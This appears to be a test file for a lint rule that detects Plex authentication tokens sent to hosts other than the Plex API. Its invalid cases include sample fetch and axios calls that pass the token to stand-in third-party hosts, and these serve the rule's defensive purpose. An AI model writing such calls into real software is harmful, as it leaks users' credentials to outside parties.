import { noTokenToOtherHost } from '../../rules/no-token-to-other-host.ts';
import { createRuleTester } from './rule-tester.ts';

createRuleTester().run('no-token-to-other-host', noTokenToOtherHost, {
  valid: [
    { name: 'a host of the API', code: "await fetch('https://plex.tv/api/v2/user', { headers: { 'X-Plex-Token': token } });" },
    { name: 'another host of its domain', code: "await fetch('https://together.plex.tv/rooms', { headers: { 'X-Plex-Token': token } });" },
    { name: 'a server of a user, by what it is asked for', code: "await fetch('https://media.example.com/library/sections/all', { headers: { 'X-Plex-Token': token } });" },
    { name: 'a server of a user, asked for something misspelt', code: "await fetch('https://media.example.com/libary/sections', { headers: { 'X-Plex-Token': token } });" },
    { name: 'a server in the home', code: "await fetch('http://nas.lan/collect', { headers: { 'X-Plex-Token': token } });" },
    { name: "the app's own back end", code: "await fetch('/collect', { headers: { 'X-Plex-Token': token } });" },
    { name: 'a host that is not known', code: "await fetch(`https://${host}/collect`, { headers: { 'X-Plex-Token': token } });" },
    { name: 'a path that is not known', code: "const plex = 1; await fetch(`https://media.example.com/${path}`, { headers: { 'X-Plex-Token': token } });" },
    { name: 'no token', code: "const plex = 1; await fetch('https://stats.example.com/collect', { method: 'POST' });" },
    {
      name: 'a host that is listed',
      code: "await fetch('https://eu.stats.example.com/collect', { headers: { 'X-Plex-Token': token } });",
      options: [{ hosts: ['*.example.com'] }],
    },
  ],
  invalid: [
    {
      name: 'in a header',
      code: "await fetch('https://stats.example.com/collect', { headers: { 'X-Plex-Token': token } });",
      errors: [{ messageId: 'otherHost', line: 1, data: { host: 'stats.example.com', name: 'X-Plex-Token', api: 'Plex Media Server' } }],
    },
    {
      name: 'in the query, by headers of an instance',
      code: "import axios from 'axios';\nconst api = axios.create({ baseURL: 'https://image.example.org' });\nawait api.get(`/resize?X-Plex-Token=${token}`);",
      errors: [{ messageId: 'otherHost', line: 3 }],
    },
  ],
});
